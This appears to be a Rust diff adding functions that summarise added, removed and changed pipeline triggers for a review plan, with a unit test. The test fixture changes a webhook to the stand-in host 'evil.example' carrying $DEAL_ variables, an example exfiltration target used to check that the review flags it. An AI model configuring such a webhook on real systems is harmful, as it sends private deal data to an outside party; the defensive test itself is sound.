@@ -430,6 +430,89 @@ pub fn parse_triggers(
     Ok(out)
 }
 
+/// What a trigger does, for review: its event and filters, and where it
+/// delivers (a webhook's host and `$DEAL_…` names, never the rest of the
+/// URL; a command as written).
+fn summary(t: &Trigger) -> String {
+    let mut s = format!("on `{}`", t.on.as_str());
+    if let Some(st) = &t.stage {
+        s.push_str(&format!(", stage `{st}`"));
+    }
+    if !t.source.is_empty() {
+        s.push_str(&format!(", source `{}`", t.source.join(", ")));
+    }
+    if !t.owner.is_empty() {
+        s.push_str(&format!(", owner `{}`", t.owner.join(", ")));
+    }
+    s.push_str(&format!(" → {}", target(&t.action)));
+    s
+}
+
+fn target(a: &Action) -> String {
+    match a {
+        Action::Webhook(w) => {
+            let names = vars(w).unwrap_or_default();
+            format!(
+                "webhook to host `{}`{}",
+                host(w),
+                if names.is_empty() {
+                    String::new()
+                } else {
+                    format!(
+                        " (reads {})",
+                        names
+                            .iter()
+                            .map(|n| format!("`${n}`"))
+                            .collect::<Vec<_>>()
+                            .join(", ")
+                    )
+                }
+            )
+        }
+        Action::Command(c) => format!("command `{c}`"),
+    }
+}
+
+/// Every change to `triggers` between two configurations, one line each:
+/// added, removed, or changed (event, filters, URL host and `$DEAL_…`
+/// names, command, format, text), for `deal review`'s plan.
+pub fn trigger_changes(base: &[Trigger], head: &[Trigger]) -> Vec<String> {
+    let mut out = Vec::new();
+    for h in head {
+        let Some(b) = base.iter().find(|b| b.id == h.id) else {
+            out.push(format!("trigger `{}` added: {}", h.id, summary(h)));
+            continue;
+        };
+        let mut what = Vec::new();
+        if b.on != h.on || b.stage != h.stage || b.source != h.source || b.owner != h.owner {
+            what.push("filters".to_string());
+        }
+        if b.action != h.action {
+            what.push(format!("delivery, was {}", target(&b.action)));
+        }
+        if b.format != h.format {
+            what.push("format".into());
+        }
+        if b.text != h.text {
+            what.push("text".into());
+        }
+        if !what.is_empty() {
+            out.push(format!(
+                "trigger `{}` changed ({}): {}",
+                h.id,
+                what.join("; "),
+                summary(h)
+            ));
+        }
+    }
+    for b in base {
+        if !head.iter().any(|h| h.id == b.id) {
+            out.push(format!("trigger `{}` removed: {}", b.id, summary(b)));
+        }
+    }
+    out
+}
+
 /// The ids of the triggers in a `pipeline.yaml`'s text (for "was this
 /// trigger there at that commit"); empty when it does not parse.
 pub fn trigger_ids(src: &str) -> Vec<String> {
@@ -1010,6 +1093,20 @@ mod tests {
         )
         .unwrap();
         assert_eq!(ok[0].owner, vec!["bob".to_string()]);
+    }
+
+    #[test]
+    fn review_names_each_trigger_change() {
+        let base = parse("- { id: a, on: won, webhook: 'https://hooks.slack.com/x/$DEAL_A' }\n- { id: b, on: lost, command: ./x }").unwrap();
+        let head = parse("- { id: a, on: won, owner: bob, webhook: 'https://evil.example/$DEAL_A/${DEAL_B}' }\n- { id: c, on: lead, source: web, command: ./y }").unwrap();
+        assert_eq!(
+            trigger_changes(&base, &head),
+            vec![
+                "trigger `a` changed (filters; delivery, was webhook to host `hooks.slack.com` (reads `$DEAL_A`)): on `won`, owner `bob` → webhook to host `evil.example` (reads `$DEAL_A`, `$DEAL_B`)",
+                "trigger `c` added: on `lead`, source `web` → command `./y`",
+                "trigger `b` removed: on `lost` → command `./x`",
+            ]
+        );
     }
 
     #[test]
